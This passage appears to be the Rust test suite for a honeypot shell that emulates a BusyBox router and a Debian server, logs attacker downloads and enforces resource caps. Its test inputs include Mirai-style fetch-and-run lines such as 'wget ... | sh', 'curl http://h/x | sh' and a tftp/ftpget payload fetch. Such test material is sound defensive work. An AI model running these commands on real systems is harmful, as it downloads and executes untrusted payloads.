        // Removed applets are gone (`ls` lived in /bin); builtins still work.
        assert_eq!(out(&mut sh, b"ls /bin"), b"sh: ls: not found\r\n");
        assert_eq!(
            out(&mut sh, b"echo ok; cd /bin"),
            b"ok\r\nsh: cd: can't cd to /bin: No such file or directory\r\n"
        );
    }

    #[test]
    fn chains_follow_exit_status() {
        let mut sh = shell("busybox_router");
        let o =
            sh.run_line(b"cd /nonexistent || cd /tmp && pwd; false && echo no; true || echo no2");
        assert_eq!(
            o.output,
            b"sh: cd: can't cd to /nonexistent: No such file or directory\r\n/tmp\r\n"
        );
        let cmds = commands(&o);
        assert_eq!(cmds.len(), 7);
        assert_eq!(cmds[5], (b"true".to_vec(), true));
        assert_eq!(
            out(&mut sh, b"cat /proc/cpuinfo | grep processor | wc -l"),
            b"2\r\n"
        );
        assert_eq!(out(&mut sh, b"echo abc | cat"), b"abc\r\n");
        assert_eq!(
            out(&mut sh, b"printf 'a\\nb\\nc\\n' | head -n 2"),
            b"a\r\nb\r\n"
        );
        let o = sh.run_line(b"xyz 1 | nosuch; exit");
        assert_eq!(o.output, b"sh: xyz: not found\r\nsh: nosuch: not found\r\n");
        assert_eq!(
            commands(&o),
            vec![
                (b"xyz 1".to_vec(), false),
                (b"nosuch".to_vec(), false),
                (b"exit".to_vec(), true)
            ]
        );
        assert!(o.exit);
    }

    #[test]
    fn profile_files_and_system_commands() {
        let mut sh = shell("busybox_router");
        assert!(out(&mut sh, b"cat /proc/cpuinfo")
            .starts_with(b"processor\t: 0\r\nmodel name\t: ARMv7"));
        assert!(out(&mut sh, b"cat /proc/mounts").starts_with(b"rootfs / rootfs rw 0 0\r\n"));
        assert_eq!(
            out(&mut sh, b"uname -a"),
            b"Linux router 3.10.14 #1 SMP PREEMPT Thu Mar 15 10:21:23 CST 2018 armv7l GNU/Linux\r\n"
        );
        assert_eq!(out(&mut sh, b"uname -m"), b"armv7l\r\n");
        assert_eq!(out(&mut sh, b"uname -s -r"), b"Linux 3.10.14\r\n");
        assert_eq!(out(&mut sh, b"hostname"), b"router\r\n");
        assert!(out(&mut sh, b"free").starts_with(b"             total"));
        assert_eq!(out(&mut sh, b"id"), b"uid=0(root) gid=0(root)\r\n");
        assert_eq!(out(&mut sh, b"which wget curl"), b"/usr/bin/wget\r\n");
        assert!(out(&mut sh, b"ps").starts_with(b"  PID USER"));
        assert_eq!(
            out(&mut sh, b"cat /nope"),
            b"cat: can't open '/nope': No such file or directory\r\n"
        );
        // Mirai's loader reads the ELF header of /bin/echo to learn the architecture.
        let hdr = out(&mut sh, b"dd bs=52 count=1 if=/bin/echo 2>/dev/null");
        assert_eq!(&hdr[..4], b"\x7fELF");
        assert_eq!(hdr[18], 0x28);
        assert_eq!(out(&mut sh, b"cd /tmp; touch a; mkdir d; ls"), b"a  d\r\n");
        assert_eq!(
            out(&mut sh, b"cp a b; rm a; rm -rf d; ls; rm a"),
            b"b\r\nrm: can't remove 'a': No such file or directory\r\n"
        );

        let mut d = shell("debian_server");
        assert_eq!(d.prompt(), b"root@srv01:~# ");
        assert!(out(&mut d, b"cat /proc/cpuinfo")
            .windows(6)
            .any(|w| w == b"Xeon(R"));
        assert!(out(&mut d, b"uname -a").ends_with(b" x86_64 GNU/Linux\r\n"));
        assert_eq!(out(&mut d, b"uname -mpi"), b"x86_64 unknown unknown\r\n");
        assert_eq!(out(&mut d, b"frob"), b"-bash: frob: command not found\r\n");
        assert_eq!(out(&mut d, b"cd /tmp"), b"");
        assert_eq!(d.prompt(), b"root@srv01:/tmp# ");
        assert_eq!(
            out(&mut d, b"ls /nope"),
            b"ls: cannot access '/nope': No such file or directory\r\n"
        );
        assert_eq!(
            out(&mut d, b"id"),
            b"uid=0(root) gid=0(root) groups=0(root)\r\n"
        );
        assert!(out(&mut d, b"ps aux").starts_with(b"USER"));
        assert!(out(&mut d, b"ls -l /etc").starts_with(b"total "));
    }

    type Dl = (Vec<u8>, &'static str, Option<Vec<u8>>);

    fn downloads(o: &Outcome) -> Vec<Dl> {
        o.events
            .iter()
            .filter_map(|e| match e {
                ShellEvent::Download {
                    url,
                    command,
                    outfile,
                } => Some((url.clone(), *command, outfile.clone())),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn downloads_are_recorded_with_outfile() {
        let mut sh = shell("busybox_router");
        let o = sh.run_line(b"wget http://x/y -O /tmp/z");
        assert_eq!(
            downloads(&o),
            vec![(b"http://x/y".to_vec(), "wget", Some(b"/tmp/z".to_vec()))]
        );
        assert!(
            o.output.starts_with(b"Connecting to x (x:80)\r\n"),
            "{:?}",
            String::from_utf8_lossy(&o.output)
        );
        // An empty file is left behind, consistently with the 0-byte transfer reported.
        assert_eq!(sh.file(b"/tmp/z"), Some(&b""[..]));
        assert_eq!(out(&mut sh, b"chmod 777 /tmp/z; sh /tmp/z"), b"");

        let o = sh.run_line(b"cd /tmp; wget -q http://203.0.113.9/bins/mips; tftp -g -r file -l local host; ftpget -u user -p pass host local2 remote");
        assert_eq!(o.output, b"");
        assert_eq!(
            downloads(&o),
            vec![
                (
                    b"http://203.0.113.9/bins/mips".to_vec(),
                    "wget",
                    Some(b"mips".to_vec())
                ),
                (
                    b"tftp://host/file".to_vec(),
                    "tftp",
                    Some(b"local".to_vec())
                ),
                (
                    b"ftp://user:pass@host/remote".to_vec(),
                    "ftpget",
                    Some(b"local2".to_vec())
                ),
            ]
        );
        assert!(sh.file(b"/tmp/mips").is_some() && sh.file(b"/tmp/local2").is_some());
        // tftp-hpa syntax and a port.
        let o = sh.run_line(b"tftp 1.2.3.4 -c get t8.sh; tftp -r x.sh -g 1.2.3.4 6969");
        assert_eq!(
            downloads(&o),
            vec![
                (
                    b"tftp://1.2.3.4/t8.sh".to_vec(),
                    "tftp",
                    Some(b"t8.sh".to_vec())
                ),
                (
                    b"tftp://1.2.3.4:6969/x.sh".to_vec(),
                    "tftp",
                    Some(b"x.sh".to_vec())
                ),
            ]
        );
        // curl is not on the router: recorded all the same, and not found.
        let o = sh.run_line(b"curl -o f http://h/a.sh");
        assert_eq!(
            downloads(&o),
            vec![(b"http://h/a.sh".to_vec(), "curl", Some(b"f".to_vec()))]
        );
        assert_eq!(o.output, b"sh: curl: not found\r\n");
        assert_eq!(
            commands(&o),
            vec![(b"curl -o f http://h/a.sh".to_vec(), false)]
        );

        let mut d = shell("debian_server");
        let o = d.run_line(b"curl -o f URL; curl -sSLO http://h/p/b.sh; curl http://h/x | sh");
        assert_eq!(
            downloads(&o),
            vec![
                (b"URL".to_vec(), "curl", Some(b"f".to_vec())),
                (b"http://h/p/b.sh".to_vec(), "curl", Some(b"b.sh".to_vec())),
                (b"http://h/x".to_vec(), "curl", None),
            ]
        );
        assert!(d.file(b"/root/f").is_some());
        let o = d.run_line(b"U=http://h/v.sh; wget -q $U -O- | sh");
        assert_eq!(
            downloads(&o),
            vec![(b"http://h/v.sh".to_vec(), "wget", None)]
        );
        let o = d.run_line(b"wget --output-document=/tmp/q http://h/q");
        assert_eq!(downloads(&o)[0].2, Some(b"/tmp/q".to_vec()));
        assert!(o.output.windows(9).any(|w| w == b"saved [0/"));
    }

    #[test]
    fn caps_hold() {
        let mut sh = shell("busybox_router");
        // Line length.
        let mut long = b"echo ".to_vec();
        long.resize(MAX_LINE * 4, b'a');
        let o = sh.run_line(&long);
        assert!(o.output.len() <= MAX_OUTPUT);
        match &o.events[0] {
            ShellEvent::Command { input, .. } => assert_eq!(input.len(), MAX_LINE),
            e => panic!("{e:?}"),
        }
        // Output of a line.
        let o = sh.run_line(b"cat /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo | cat; busybox; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps; ps");
        assert!(o.output.len() <= MAX_OUTPUT);
        // Filesystem bytes: each line appends 60 KiB.
        let chunk = format!("echo -n {} >> /tmp/big", "A".repeat(60 * 1024));
        let mut last = Vec::new();
        for _ in 0..20 {
            last = sh.run_line(chunk.as_bytes()).output;
        }
        assert_eq!(last, b"sh: write error: No space left on device\r\n");
        assert_eq!(sh.fs_bytes(), MAX_FS_BYTES);
        // Entries.
        let mut refused = false;
        for i in 0..MAX_FS_ENTRIES + 5 {
            let o = sh.run_line(format!("touch /tmp/f{i}").as_bytes());
            refused |= !o.output.is_empty();
        }
        assert!(refused);
        assert!(sh.fs_entries_added() <= MAX_FS_ENTRIES);
        // Recursion: a script that runs itself, and one that runs itself twice.
        sh.run_line(b"rm -rf /tmp/*; rm /tmp/big");
        let mut sh = shell("busybox_router");
        sh.run_line(b"echo 'echo x; sh /tmp/r; sh /tmp/r' > /tmp/r");
        let o = sh.run_line(b"sh /tmp/r");
        assert!(o.output.len() <= MAX_OUTPUT);
        assert!(o.output.starts_with(b"x\r\nx\r\n"));
        let o = sh.run_line(b"sh -c 'sh -c \"sh -c \\\"sh -c \\\\\\\"sh -c \\\\\\\\\\\\\\\"echo deep\\\\\\\\\\\\\\\"\\\\\\\"\\\"\"'");
        assert!(o.output.len() <= MAX_OUTPUT);
        assert_eq!(out(&mut sh, b"sh -c 'echo a; echo b' | wc -l"), b"2\r\n");
        assert_eq!(
            out(&mut sh, b"echo 'echo piped' | sh; nohup echo n &"),
            b"piped\r\nn\r\n"
        );
        // Wrappers nest only so deep (no stack overflow on `nohup nohup ... x`).
        let wrapped = format!("{}echo deep", "nohup exec ".repeat(6000));
        assert_eq!(out(&mut sh, wrapped.as_bytes()), b"");
        let mut d = shell("debian_server");
        d.run_line(b"mkdir -p /tmp/d");
        let deep = format!("mkdir -p /tmp/d{}", "/a".repeat(30000));
        assert!(out(&mut d, deep.as_bytes()).ends_with(b"No space left on device\r\n"));
        // A self-running script of blank lines costs steps too: this line stays cheap.
        let blank = format!("echo 'sh /tmp/b; sh /tmp/b{}' > /tmp/b", "\n".repeat(20000));
        sh.run_line(blank.as_bytes());
        let o = sh.run_line(b"sh /tmp/b");
        assert_eq!(o.output, b"");
        let o = sh.run_line(b"sh -c 'echo in; exit; echo not'; echo after");
        assert_eq!(o.output, b"in\r\nafter\r\n");
        assert!(!o.exit);
    }
}
